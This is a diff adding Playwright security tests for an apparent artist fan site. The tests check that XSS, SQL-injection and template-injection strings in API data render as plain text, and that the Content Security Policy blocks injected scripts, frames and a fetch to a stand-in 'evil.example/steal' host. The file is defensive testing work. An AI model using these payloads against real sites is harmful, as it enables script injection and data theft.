@@ -1,0 +1,126 @@
+import { once } from 'node:events'
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import type { Page } from '@playwright/test'
+import { expect, test } from './fixtures'
+import { open, openFullPage } from './home'
+
+const HOSTILE = [
+  `<img src=x onerror="hacked=1">`,
+  `<script>hacked=1</script>`,
+  `"><svg onload=hacked=1>`,
+  `'; DROP TABLE users;--`,
+  '{{7*7}} <%= 7*7 %>',
+]
+const isHacked = (page: Page) => page.evaluate(() => 'hacked' in window)
+
+/** Answers a read with what the server says, changed. */
+const changed = (page: Page, path: string, change: (response: never) => unknown) =>
+  page.route(path, async (route) => {
+    const response = (await (await route.fetch()).json()) as never
+    await route.fulfill({ json: change(response) })
+  })
+
+test('hostile texts of polls, tracks, shows and names are shown as text', { tag: '@desk' }, async ({ page }) => {
+  await changed(page, '/api/polls/active', ([poll]: [{ options: object[] }]) => [
+    {
+      ...poll,
+      title: HOSTILE[0],
+      description: HOSTILE[1],
+      options: HOSTILE.map((title, at) => ({ id: `o${at}`, title, voteCount: null })),
+    },
+  ])
+  await changed(page, '/api/tracks', (tracks: object[]) =>
+    tracks.map((track, at) => ({ ...track, title: HOSTILE[at % 5], artist: HOSTILE[0], album: HOSTILE[1] })),
+  )
+  await changed(page, '/api/concerts/upcoming', (shows: object[]) =>
+    shows.map((show, at) => ({ ...show, venue: HOSTILE[at % 5], city: HOSTILE[2], address: HOSTILE[0] })),
+  )
+  await changed(page, '/api/leaderboard', () => ({
+    entries: HOSTILE.map((username, at) => ({ rank: at + 1, username, points: 5 })),
+    me: null,
+  }))
+  await openFullPage(page)
+  const options = page.getByRole('region', { name: 'Community Voting' }).getByRole('button')
+  await expect(options).toHaveText(HOSTILE)
+  const rack = page.getByRole('list', { name: 'All tracks' })
+  for (const text of HOSTILE) await expect(rack.getByText(text, { exact: true }).first()).toBeVisible()
+  await expect(page.getByRole('region', { name: 'Top supporters' }).getByRole('listitem').last()).toContainText(
+    '{{7*7}}',
+  )
+  await page.getByRole('article', { name: 'NEXT SHOW' }).scrollIntoViewIfNeeded()
+  await page.getByRole('grid').getByRole('button', { name: HOSTILE[0] }).first().click()
+  await expect(page.getByRole('dialog')).toContainText('<img src=x')
+  expect(await isHacked(page)).toBe(false)
+})
+
+test('script that got into the page is refused by the policy', { tag: '@desk' }, async ({
+  page,
+  expectConsoleError,
+}) => {
+  expectConsoleError(/Content Security Policy/)
+  await open(page)
+  await page.evaluate(async () => {
+    const violations: string[] = []
+    Object.assign(window, { violations })
+    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
+      violations.push(`${effectiveDirective} ${blockedURI}`),
+    )
+    const inline = document.createElement('script')
+    inline.textContent = 'hacked = 1'
+    const foreign = document.createElement('script')
+    foreign.src = 'https://evil.example/steal.js'
+    const handler = document.createElement('div')
+    handler.innerHTML = '<img src="data:," onerror="hacked = 1">'
+    const style = document.createElement('style')
+    style.textContent = 'body { display: none }'
+    const frame = document.createElement('iframe')
+    frame.src = 'https://evil.example/'
+    const base = document.createElement('base')
+    base.href = 'https://evil.example/'
+    for (const element of [inline, foreign, handler, style, frame, base]) document.body.appendChild(element)
+    await fetch('https://evil.example/steal').catch(() => {})
+  })
+  const refused = () => page.evaluate(() => (window as unknown as { violations: string[] }).violations.sort())
+  await expect
+    .poll(refused)
+    .toEqual([
+      'base-uri https://evil.example/',
+      'connect-src https://evil.example/steal',
+      'frame-src https://evil.example',
+      'script-src-attr inline',
+      'script-src-elem https://evil.example/steal.js',
+      'script-src-elem inline',
+      'style-src-elem inline',
+    ])
+  expect(await isHacked(page)).toBe(false)
+  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
+})
+
+test('another site cannot show this one in a frame of its own', {
+  tag: '@desk',
+}, async ({ page, baseURL, expectConsoleError }) => {
+  expectConsoleError(/frame-ancestors/)
+  const framing = createServer((_, response) =>
+    response.setHeader('content-type', 'text/html').end(`<!doctype html><title>Evil</title><iframe src="${baseURL}/">`),
+  ).listen(0, 'localhost')
+  await once(framing, 'listening')
+  await page.goto(`http://localhost:${(framing.address() as AddressInfo).port}/`)
+  await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/')
+  framing.close()
+})
+
+test('an address that is a script does nothing', { tag: '@desk' }, async ({ page, expectConsoleError }) => {
+  expectConsoleError(/Content Security Policy|blocked a javascript/)
+  await changed(page, '/api/config', (config: { artist: { links: object } }) => {
+    const links = { ...config.artist.links, contact: 'javascript:hacked=1', broadcast: 'javascript:hacked=1' }
+    return { ...config, artist: { ...config.artist, links } }
+  })
+  await open(page)
+  const opened: Page[] = []
+  page.context().on('page', (other) => opened.push(other))
+  await page.getByRole('contentinfo').getByRole('link', { name: 'Contact' }).click()
+  await page.getByRole('link', { name: 'Join broadcast' }).click()
+  await expect(page.getByRole('heading', { level: 1 })).toHaveCount(1)
+  for (const one of [page, ...opened]) expect(await isHacked(one)).toBe(false)
+})
